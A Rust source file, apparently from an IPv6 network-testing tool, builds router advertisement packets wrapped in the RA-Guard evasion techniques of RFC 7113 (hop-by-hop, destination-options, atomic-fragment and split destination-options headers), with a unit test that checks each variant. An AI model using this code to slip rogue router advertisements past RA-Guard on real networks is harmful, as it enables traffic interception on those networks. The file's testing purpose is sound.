//! RA-Guard evasion (RFC 7113 §2) as the attack tools do it (linux-ipv6.md G10, G11, G13): THC
//! `fake_router6 -E H` (hop-by-hop header), SI6 `ra6 -u` (destination options), `-E 1` (a one-shot, "atomic"
//! fragment header) and `-E D` / `ra6 -y` (a long destination-options header that pushes the ICMPv6 header
//! into the second fragment). Any packet an attacker sends can carry one of them.

use std::ops::Range;

use crate::wire::build::{append_ipv6, Ipv6Params, Upper, L2};
use crate::wire::fragment::append_ipv6_fragments;
use crate::wire::{FragmentInfo, Ipv6ExtRepr, WireError};

/// A PadN option (RFC 8200 §4.2) with 200 zero bytes: enough for the destination-options header to fill the
/// first 104-byte fragment, so the upper-layer header only appears in the second one.
const LONG_PADN: [u8; 202] = {
    let mut b = [0u8; 202];
    b[0] = 1;
    b[1] = 200;
    b
};
/// The first fragment's payload in [`Evasion::FragmentedDestOpts`]: less than the 208-byte header.
const FIRST_FRAGMENT_LEN: usize = 104;

/// How a packet is wrapped to slip past RA-Guard.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Evasion {
    /// Sent plain.
    #[default]
    None,
    /// An empty Hop-by-Hop Options header in front (THC `-E H`, ra6 `-H`). Linux hosts accept the RA (B47).
    HopByHop,
    /// An empty Destination Options header in front (ra6 `-u`). Linux hosts accept the RA (B47).
    DestOpts,
    /// An atomic fragment header (offset 0, M = 0; THC `-E 1`). Linux hosts drop the RA (RFC 6980, B2).
    Fragment,
    /// Fragments of 104 bytes, the first holding only half of a 208-byte Destination Options header (THC `-E D`,
    /// ra6 `-y`): the ICMPv6 header sits in the second fragment. Linux hosts drop the RA (RFC 6980, B2).
    FragmentedDestOpts,
}

impl Evasion {
    /// Every variant, for tests that try them all.
    pub const ALL: [Evasion; 5] = [
        Evasion::None,
        Evasion::HopByHop,
        Evasion::DestOpts,
        Evasion::Fragment,
        Evasion::FragmentedDestOpts,
    ];

    /// The name the scenarios use.
    pub const fn name(self) -> &'static str {
        match self {
            Evasion::None => "none",
            Evasion::HopByHop => "hop-by-hop",
            Evasion::DestOpts => "dest-opts",
            Evasion::Fragment => "fragment",
            Evasion::FragmentedDestOpts => "fragmented-dest-opts",
        }
    }
}

/// `ip` with `exts` in place of its own extension headers.
fn with_exts<'a>(ip: &Ipv6Params<'_>, exts: &'a [Ipv6ExtRepr<'a>]) -> Ipv6Params<'a> {
    Ipv6Params {
        src: ip.src,
        dst: ip.dst,
        hop_limit: ip.hop_limit,
        traffic_class: ip.traffic_class,
        flow_label: ip.flow_label,
        exts,
    }
}

/// Appends `upper` from `ip` (whose own `exts` are ignored) wrapped per `evasion` to `buf`: one frame, or several for
/// [`Evasion::FragmentedDestOpts`]. `ident` is the Fragment header's identification.
pub fn append_evasive(
    buf: &mut Vec<u8>,
    l2: L2,
    ip: &Ipv6Params<'_>,
    upper: &Upper<'_>,
    evasion: Evasion,
    ident: u32,
) -> Result<Vec<Range<usize>>, WireError> {
    let one = |buf: &mut Vec<u8>, exts: &[Ipv6ExtRepr<'_>]| {
        append_ipv6(buf, l2, &with_exts(ip, exts), upper).map(|r| vec![r])
    };
    match evasion {
        Evasion::None => one(buf, &[]),
        Evasion::HopByHop => one(buf, &[Ipv6ExtRepr::HopByHop { options: &[] }]),
        Evasion::DestOpts => one(buf, &[Ipv6ExtRepr::DestinationOptions { options: &[] }]),
        Evasion::Fragment => one(
            buf,
            &[Ipv6ExtRepr::Fragment(FragmentInfo {
                offset: 0,
                more: false,
                ident,
            })],
        ),
        Evasion::FragmentedDestOpts => {
            let dest = [Ipv6ExtRepr::DestinationOptions { options: &LONG_PADN }];
            append_ipv6_fragments(buf, l2, &with_exts(ip, &[]), &dest, upper, ident, FIRST_FRAGMENT_LEN)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::ipv6::ALL_NODES;
    use crate::wire::{parse_frame, Icmpv6Repr, IpProtocol, L3View, MacAddr, NdOptions, NdiscRepr, RaFlags};

    fn ra() -> Upper<'static> {
        Upper::Icmpv6(Icmpv6Repr::Ndisc(NdiscRepr::RouterAdvert {
            hop_limit: 64,
            flags: RaFlags::default(),
            router_lifetime: 1800,
            reachable_time: 0,
            retrans_time: 0,
            options: NdOptions::NONE,
        }))
    }

    #[test]
    fn each_variant_has_its_header_chain() {
        let mac = MacAddr([2, 0, 0, 0, 0, 1]);
        let l2 = L2 {
            src: mac,
            dst: MacAddr::from_ipv6_multicast(ALL_NODES),
            vlan: None,
        };
        let ip = Ipv6Params::new(mac.eui64_link_local(), ALL_NODES, 255);
        for (evasion, first_next, frames) in [
            (Evasion::None, IpProtocol::ICMPV6, 1),
            (Evasion::HopByHop, IpProtocol::HOP_BY_HOP, 1),
            (Evasion::DestOpts, IpProtocol::IPV6_DEST_OPTS, 1),
            (Evasion::Fragment, IpProtocol::IPV6_FRAGMENT, 1),
            (Evasion::FragmentedDestOpts, IpProtocol::IPV6_FRAGMENT, 3),
        ] {
            let mut buf = Vec::new();
            let ranges = append_evasive(&mut buf, l2, &ip, &ra(), evasion, 5).expect("builds");
            assert_eq!(ranges.len(), frames, "{evasion:?}");
            let first = &buf[ranges[0].clone()];
            assert_eq!(first[20], first_next.0, "{evasion:?}");
            let upper = parse_frame(first).ok().and_then(|v| match v.l3 {
                L3View::Ipv6(v) => Some(v.ext.upper),
                _ => None,
            });
            if evasion == Evasion::FragmentedDestOpts {
                // The first fragment ends inside the destination options: no ICMPv6 header in it (RFC 7112 §5).
                assert_ne!(upper, Some(IpProtocol::ICMPV6));
            } else {
                assert_eq!(upper, Some(IpProtocol::ICMPV6), "{evasion:?}");
            }
        }
    }
}
